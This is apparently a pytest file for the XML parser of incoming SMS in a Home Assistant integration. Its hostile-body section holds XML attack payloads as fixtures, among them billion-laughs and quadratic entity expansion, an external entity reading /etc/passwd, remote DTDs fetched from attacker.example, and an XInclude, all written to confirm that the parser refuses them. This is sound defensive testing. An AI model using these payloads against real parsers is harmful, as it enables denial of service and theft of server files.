"""Tests for the MO (incoming SMS) parser."""

from __future__ import annotations

import asyncio
from pathlib import Path
import sys

import pytest

from custom_components.tatango_sms.tatango.mo import (
    MAX_BODY_BYTES,
    MAX_CONTENT_CHARACTERS,
    IncomingMessage,
    MOError,
    MOReason,
    keyword,
    parse_mo,
)

DOCUMENTED_BODY = """<?xml version="1.0"?>
<message>
  <sender>PHONE_NUMBER</sender>
  <content><![CDATA[MESSAGE_BODY]]></content>
</message>"""


def mo_body(
    sender: str, content_xml: str, declaration: str = '<?xml version="1.0"?>\n'
) -> str:
    """Return an MO body with the content element's inner XML as given."""
    return (
        f"{declaration}<message>\n  <sender>{sender}</sender>\n"
        f"  <content>{content_xml}</content>\n</message>"
    )


def assert_rejected(body: bytes | str, reason: MOReason) -> MOError:
    """Assert that parsing the body fails for the given reason; return the error."""
    with pytest.raises(MOError) as caught:
        parse_mo(body)
    assert caught.value.reason == reason
    assert isinstance(caught.value, ValueError)
    assert str(caught.value)
    return caught.value


# Well-formed messages


DOCUMENTED_EXAMPLE = DOCUMENTED_BODY.replace("PHONE_NUMBER", "9998887777")


def test_documented_format() -> None:
    """The published example, with a phone number for its placeholder, parses to its sender and content."""
    assert parse_mo(DOCUMENTED_EXAMPLE) == IncomingMessage(
        sender="9998887777", content="MESSAGE_BODY"
    )


def test_documented_format_as_bytes() -> None:
    """Bytes and str bodies parse the same."""
    assert parse_mo(DOCUMENTED_EXAMPLE.encode()) == IncomingMessage(
        sender="9998887777", content="MESSAGE_BODY"
    )


def test_documented_placeholder_is_no_sender() -> None:
    """The published example as written has "PHONE_NUMBER" for a sender: not a phone number."""
    assert_rejected(DOCUMENTED_BODY, MOReason.INVALID_SENDER)


def test_without_xml_declaration() -> None:
    """The XML declaration is optional."""
    body = "<message><sender>9998887777</sender><content><![CDATA[hello]]></content></message>"
    assert parse_mo(body) == IncomingMessage(sender="9998887777", content="hello")
    assert parse_mo(body.encode()) == IncomingMessage(
        sender="9998887777", content="hello"
    )


@pytest.mark.parametrize(
    ("content_xml", "expected"),
    [
        ("<![CDATA[a < b & c > d]]>", "a < b & c > d"),
        ("<![CDATA[x]]]]><![CDATA[>y]]>", "x]]>y"),
        ("<![CDATA[]]]]><![CDATA[>]]>", "]]>"),
        (
            "<![CDATA[<message><sender>1</sender></message>]]>",
            "<message><sender>1</sender></message>",
        ),
        ("<![CDATA[line 1\nline 2\n\nline 4]]>", "line 1\nline 2\n\nline 4"),
        ("<![CDATA[  padded both sides  ]]>", "  padded both sides  "),
        ("<![CDATA[\n]]>", "\n"),
        ("<![CDATA[ ]]>", " "),
        ("<![CDATA[hi 😀 👍🏽 👨‍👩‍👧 €]]>", "hi 😀 👍🏽 👨‍👩‍👧 €"),
        ("<![CDATA[&amp; stays &amp;]]>", "&amp; stays &amp;"),
        (
            "<![CDATA[<!DOCTYPE x [<!ENTITY a 'b'>]>&a;]]>",
            "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
        ),
        ("<![CDATA[first]]><![CDATA[second]]>", "firstsecond"),
    ],
)
def test_cdata_content_is_kept_exactly(content_xml: str, expected: str) -> None:
    """CDATA text is returned character for character, including markup characters."""
    body = mo_body("9998887777", content_xml)
    assert parse_mo(body).content == expected
    assert parse_mo(body.encode()).content == expected


@pytest.mark.parametrize(
    ("content_xml", "expected"),
    [
        ("STOP", "STOP"),
        ("a &lt; b &amp; c &gt; d", "a < b & c > d"),
        ("caf&#233; &#x1F600;", "café 😀"),
        ("  two\nlines  ", "  two\nlines  "),
        ("before<![CDATA[ <inside> ]]>after", "before <inside> after"),
        ("a<!-- a comment -->b", "ab"),
    ],
)
def test_plain_text_content(content_xml: str, expected: str) -> None:
    """Content without CDATA is ordinary XML text."""
    assert parse_mo(mo_body("9998887777", content_xml)).content == expected


def test_line_breaks_are_normalized_as_xml_requires() -> None:
    """XML turns CR LF and lone CR into LF, even inside CDATA."""
    assert parse_mo(mo_body("1", "<![CDATA[a\r\nb\rc]]>")).content == "a\nb\nc"


def test_utf8_bytes() -> None:
    """UTF-8 bytes decode to the text the user typed."""
    body = mo_body("9998887777", "<![CDATA[Grüße, 東京 😀]]>").encode()
    assert parse_mo(body).content == "Grüße, 東京 😀"


def test_declared_iso_8859_1_bytes() -> None:
    """Bytes in a declared ISO-8859-1 encoding are decoded with it."""
    body = mo_body(
        "9998887777",
        "<![CDATA[Café ñandú ¿sí?]]>",
        declaration='<?xml version="1.0" encoding="ISO-8859-1"?>\n',
    ).encode("iso-8859-1")
    assert b"Caf\xe9" in body
    assert parse_mo(body).content == "Café ñandú ¿sí?"


def test_declared_encoding_is_ignored_for_str() -> None:
    """A str is already decoded: its encoding declaration does not apply again."""
    body = mo_body(
        "9998887777",
        "<![CDATA[Café]]>",
        declaration='<?xml version="1.0" encoding="ISO-8859-1"?>\n',
    )
    assert parse_mo(body).content == "Café"


@pytest.mark.parametrize(
    "content_element",
    ["<content></content>", "<content/>", "<content><![CDATA[]]></content>"],
)
def test_empty_content(content_element: str) -> None:
    """An empty content element is the empty string."""
    body = f"<message><sender>9998887777</sender>{content_element}</message>"
    assert parse_mo(body) == IncomingMessage(sender="9998887777", content="")


def test_missing_content() -> None:
    """A message without a content element has empty content."""
    body = "<message><sender>9998887777</sender></message>"
    assert parse_mo(body) == IncomingMessage(sender="9998887777", content="")


@pytest.mark.parametrize(
    ("sender_xml", "expected"),
    [
        ("9998887777", "9998887777"),
        ("  9998887777\n", "9998887777"),
        ("\n    +1 (999) 888-7777\n  ", "9998887777"),
        ("<![CDATA[1-999-888-7777]]>", "9998887777"),
        ("+44 (0)20 7946-0958", "+4402079460958"),
        ("12345", "12345"),
    ],
)
def test_sender_is_normalized(sender_xml: str, expected: str) -> None:
    """The sender is a phone number, normalized as saved recipients are."""
    assert parse_mo(mo_body(sender_xml, "x")).sender == expected


@pytest.mark.parametrize(
    "sender_xml",
    [
        "abc&amp;def",
        "PHONE_NUMBER",
        "9998887777&#10;forged log line",
        "1234567890123456",
        "9" * 60_000,
    ],
    ids=["markup", "placeholder", "line-break", "16-digits", "60000-digits"],
)
def test_sender_that_is_no_phone_number(sender_xml: str) -> None:
    """A sender that is not a phone number of at most 15 digits is refused."""
    assert_rejected(mo_body(sender_xml, "x"), MOReason.INVALID_SENDER)


def test_other_elements_and_attributes_are_ignored() -> None:
    """Extra elements, attributes and namespaces on children do not matter."""
    body = (
        '<message id="7"><received>now</received><sender type="mobile">9998887777</sender>'
        '<content lang="en">hi</content><extra><sender>1</sender></extra></message>'
    )
    assert parse_mo(body) == IncomingMessage(sender="9998887777", content="hi")


def test_element_order_does_not_matter() -> None:
    """Content may come before sender."""
    body = "<message><content>hi</content><sender>9998887777</sender></message>"
    assert parse_mo(body) == IncomingMessage(sender="9998887777", content="hi")


def test_xinclude_in_cdata_is_just_text() -> None:
    """An XInclude inside CDATA is text, never processed."""
    xinclude = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    assert parse_mo(mo_body("1", f"<![CDATA[{xinclude}]]>")).content == xinclude


def test_incoming_message_is_frozen() -> None:
    """A parsed message cannot be changed."""
    message = parse_mo(DOCUMENTED_EXAMPLE)
    with pytest.raises(AttributeError):
        message.content = "changed"  # type: ignore[misc]
    assert not hasattr(message, "__dict__")


# Size limit


def _padded_body(total_bytes: int, filler: str = "a") -> str:
    """Return a valid MO body of exactly total_bytes UTF-8 bytes, padded with filler in an element that is ignored."""

    def padded(padding: str) -> str:
        return mo_body("9998887777", "hi").replace(
            "</message>", f"<padding>{padding}</padding></message>"
        )

    room = total_bytes - len(padded("").encode())
    filler_bytes = len(filler.encode())
    body = padded(filler * (room // filler_bytes) + "b" * (room % filler_bytes))
    assert len(body.encode()) == total_bytes
    return body


@pytest.mark.parametrize("filler", ["a", "é", "€", "😀"])
def test_exactly_64_kib_is_allowed(filler: str) -> None:
    """A body of exactly 64 KiB (as UTF-8) parses, as str or bytes."""
    body = _padded_body(64 * 1024, filler)
    assert MAX_BODY_BYTES == 65536
    message = parse_mo(body)
    assert message == IncomingMessage(sender="9998887777", content="hi")
    assert parse_mo(body.encode()) == message


@pytest.mark.parametrize("filler", ["a", "é", "€", "😀"])
def test_one_byte_over_64_kib_is_too_large(filler: str) -> None:
    """A body one byte over 64 KiB (as UTF-8) is rejected, as str or bytes."""
    body = _padded_body(64 * 1024 + 1, filler)
    assert_rejected(body, MOReason.BODY_TOO_LARGE)
    assert_rejected(body.encode(), MOReason.BODY_TOO_LARGE)


def test_multibyte_str_under_limit_in_characters_but_over_in_bytes() -> None:
    """A str's size is its UTF-8 size, not its length in characters."""
    body = _padded_body(65537, "😀")
    assert len(body) < 20000
    assert_rejected(body, MOReason.BODY_TOO_LARGE)


def test_huge_body_is_too_large() -> None:
    """A body far over the limit is rejected before parsing."""
    assert_rejected(b"<" * (10 * 1024 * 1024), MOReason.BODY_TOO_LARGE)


@pytest.mark.parametrize("character", ["a", "😀"])
def test_content_up_to_1600_characters(character: str) -> None:
    """Content of ten SMS' worth of characters is a message; one character more is too long."""
    assert MAX_CONTENT_CHARACTERS == 1600
    content = character * 1600
    assert parse_mo(mo_body("9998887777", content)).content == content
    assert_rejected(
        mo_body("9998887777", f"{content}{character}"), MOReason.CONTENT_TOO_LONG
    )


# Hostile and invalid bodies

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<message><sender>9998887777</sender><content>&lol9;</content></message>"""

QUADRATIC_BLOWUP = (
    '<?xml version="1.0"?>\n<!DOCTYPE m [<!ENTITY a "'
    + "x" * 20000
    + '">]>\n<message><sender>9998887777</sender><content>'
    + "&a;" * 10000
    + "</content></message>"
)

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<message><sender>9998887777</sender><content>&xxe;</content></message>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE message SYSTEM "http://attacker.example/evil.dtd">
<message><sender>9998887777</sender><content>hi</content></message>"""

PUBLIC_DTD = """<?xml version="1.0"?>
<!DOCTYPE message PUBLIC "-//EVIL//DTD//EN" "http://attacker.example/evil.dtd">
<message><sender>9998887777</sender><content>hi</content></message>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE message [
 <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
 %remote;
]>
<message><sender>9998887777</sender><content>hi</content></message>"""

INTERNAL_DTD_WITHOUT_ENTITIES = """<?xml version="1.0"?>
<!DOCTYPE message [<!ELEMENT message ANY>]>
<message><sender>9998887777</sender><content>hi</content></message>"""

BARE_DOCTYPE = """<!DOCTYPE message>
<message><sender>9998887777</sender><content>hi</content></message>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        QUADRATIC_BLOWUP,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        PUBLIC_DTD,
        PARAMETER_ENTITY,
        INTERNAL_DTD_WITHOUT_ENTITIES,
        BARE_DOCTYPE,
    ],
    ids=[
        "billion_laughs",
        "quadratic_blowup",
        "external_entity",
        "external_dtd",
        "public_dtd",
        "parameter_entity",
        "internal_dtd",
        "bare_doctype",
    ],
)
def test_any_dtd_is_forbidden(body: str) -> None:
    """Every DTD, and so every entity declaration, is refused without expansion."""
    assert len(body.encode()) <= MAX_BODY_BYTES
    assert_rejected(body, MOReason.FORBIDDEN_XML)
    assert_rejected(body.encode(), MOReason.FORBIDDEN_XML)


def test_undeclared_entity_is_malformed() -> None:
    """An entity reference without a declaration is not well-formed."""
    assert_rejected(mo_body("1", "&xxe;"), MOReason.MALFORMED_XML)


def test_xinclude_element_in_content_is_rejected() -> None:
    """A real XInclude element in content is markup, not text, and is refused."""
    xinclude = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    assert_rejected(mo_body("1", xinclude), MOReason.UNEXPECTED_MARKUP)


@pytest.mark.parametrize(
    "body",
    [
        "<message><sender>1</sender><content>a<b>bold</b></content></message>",
        "<message><sender>1<x/></sender><content>a</content></message>",
        "<message><sender>1</sender><sender>2</sender></message>",
        "<message><sender>1</sender><content>a</content><content>b</content></message>",
    ],
    ids=["element_in_content", "element_in_sender", "two_senders", "two_contents"],
)
def test_ambiguous_markup_is_rejected(body: str) -> None:
    """Elements inside sender or content, or repeated ones, are refused."""
    assert_rejected(body, MOReason.UNEXPECTED_MARKUP)


@pytest.mark.parametrize(
    "body",
    [
        "hello, this is not XML",
        '{"sender": "9998887777", "content": "hi"}',
        "sender=9998887777&content=hi",
        "<message><sender>9998887777</sender>",
        "<message><sender>1</sender></message><message/>",
        "<message><sender>1</sender><content>\x00</content></message>",
        "<message><sender>1</sender><content>&lt</content></message>",
        "<message><sender>1</sender><content><![CDATA[unterminated</content></message>",
        b"<message><sender>1</sender><content>\xff\xfe</content></message>",
        b'<?xml version="1.0" encoding="no-such-encoding"?><message/>',
        b'<?xml version="1.0" encoding="UTF-16"?><message/>',
        "<message><sender>1</sender><content>\ud83d</content></message>",
    ],
    ids=[
        "text",
        "json",
        "form",
        "unclosed",
        "two_roots",
        "nul_character",
        "broken_reference",
        "unterminated_cdata",
        "invalid_utf8",
        "unknown_encoding",
        "wrong_declared_encoding",
        "lone_surrogate",
    ],
)
def test_non_xml_is_malformed(body: bytes | str) -> None:
    """Anything that is not well-formed XML is refused as malformed."""
    assert_rejected(body, MOReason.MALFORMED_XML)


@pytest.mark.parametrize("body", ["", b"", "   ", "\n\t\r\n ", b" \n\t"])
def test_empty_body(body: bytes | str) -> None:
    """An empty or whitespace-only body is refused."""
    assert_rejected(body, MOReason.EMPTY_BODY)


@pytest.mark.parametrize(
    "body",
    [
        "<sms><sender>1</sender><content>hi</content></sms>",
        "<Message><sender>1</sender><content>hi</content></Message>",
        '<message xmlns="urn:example"><sender>1</sender><content>hi</content></message>',
        "<envelope><message><sender>1</sender><content>hi</content></message></envelope>",
    ],
    ids=["other_name", "capitalized", "namespaced", "wrapped"],
)
def test_wrong_root(body: str) -> None:
    """The root element must be an unqualified <message>."""
    assert_rejected(body, MOReason.WRONG_ROOT)


@pytest.mark.parametrize(
    "body",
    [
        "<message><content>hi</content></message>",
        "<message/>",
        "<message><sender></sender><content>hi</content></message>",
        "<message><sender/><content>hi</content></message>",
        "<message><sender>  \n\t </sender><content>hi</content></message>",
        "<message><sender><![CDATA[ ]]></sender><content>hi</content></message>",
        "<message><phone>9998887777</phone><content>hi</content></message>",
    ],
    ids=[
        "absent",
        "empty_message",
        "empty",
        "self_closing",
        "whitespace",
        "blank_cdata",
        "misnamed",
    ],
)
def test_missing_or_empty_sender(body: str) -> None:
    """A message needs a non-blank sender."""
    assert_rejected(body, MOReason.MISSING_SENDER)


def test_error_does_not_echo_the_body() -> None:
    """An error message never repeats (possibly huge or hostile) input."""
    err = assert_rejected(EXTERNAL_ENTITY, MOReason.FORBIDDEN_XML)
    assert "passwd" not in str(err)
    err = assert_rejected("<x" + "y" * 1000 + "/>", MOReason.WRONG_ROOT)
    assert "yyy" not in str(err)


def test_reasons_are_strings() -> None:
    """Reason codes compare equal to their string values."""
    assert MOReason.BODY_TOO_LARGE == "body_too_large"
    assert {reason.value for reason in MOReason} == {
        "body_too_large",
        "empty_body",
        "malformed_xml",
        "forbidden_xml",
        "wrong_root",
        "missing_sender",
        "invalid_sender",
        "unexpected_markup",
        "content_too_long",
    }


# Keyword


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("stop", "STOP"),
        ("Join the club", "JOIN"),
        ("  lights\ton", "LIGHTS"),
        ("\nStatus\n", "STATUS"),
        ("garage-door open", "GARAGE-DOOR"),
        ("ßtraße", "SSTRASSE"),
        ("😀 hi", "😀"),
        ("", ""),
        ("   \n\t", ""),
    ],
)
def test_keyword(content: str, expected: str) -> None:
    """The keyword is the first whitespace-separated word, upper-cased."""
    assert keyword(content) == expected


# Importing inside Home Assistant's event loop

# Run in a fresh interpreter: Home Assistant's modules the integration imports
# are loaded first (Home Assistant has them before it loads any integration),
# then Home Assistant's detection of blocking calls is turned on, as in a
# running Home Assistant, and the integration is imported and used inside an
# event loop, as a component importing it from its setup would.
IMPORT_IN_THE_LOOP = r"""
import ast, asyncio, importlib, pathlib

package = pathlib.Path("custom_components/tatango_sms")
for path in sorted(package.rglob("*.py")):
    for node in ast.parse(path.read_text(encoding="utf-8")).body:
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith(
            "homeassistant"
        ):
            importlib.import_module(node.module)
            for alias in node.names:
                try:
                    importlib.import_module(f"{node.module}.{alias.name}")
                except ImportError:
                    pass  # a name, not a module

modules = [
    ".".join(path.with_suffix("").parts).removesuffix(".__init__")
    for path in sorted(package.rglob("*.py"))
]

from homeassistant import block_async_io

block_async_io.enable()
assert hasattr(importlib.import_module, "__wrapped__"), "detection is off"


async def main() -> None:
    # The import statement, as a component's setup would: only the
    # integration's own imports may call the watched import_module.
    for module in modules:
        __import__(module)
    from custom_components.tatango_sms.tatango.mo import MOError, parse_mo

    assert parse_mo(b"<message><sender>1</sender><content>hi</content></message>")
    for body in (b'<?xml version="1.0" encoding="ISO-8859-1"?><message/>',
                 b"<!DOCTYPE message><message/>", b"<message"):
        try:
            parse_mo(body)
        except MOError:
            pass
    print("imported")


asyncio.run(main())
"""


async def test_importing_in_the_event_loop_blocks_nothing() -> None:
    """Importing and using the integration inside the event loop makes Home Assistant report no blocking call.

    It reported `import_module('xml.etree.ElementTree')` at the parser's import
    while defusedxml was its XML library.
    """
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-c",
        IMPORT_IN_THE_LOOP,
        cwd=Path(__file__).parent.parent,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    stdout, stderr = await process.communicate()

    assert process.returncode == 0, stderr.decode()
    assert stdout.decode().split() == ["imported"]
    assert "Detected blocking call" not in stderr.decode(), stderr.decode()
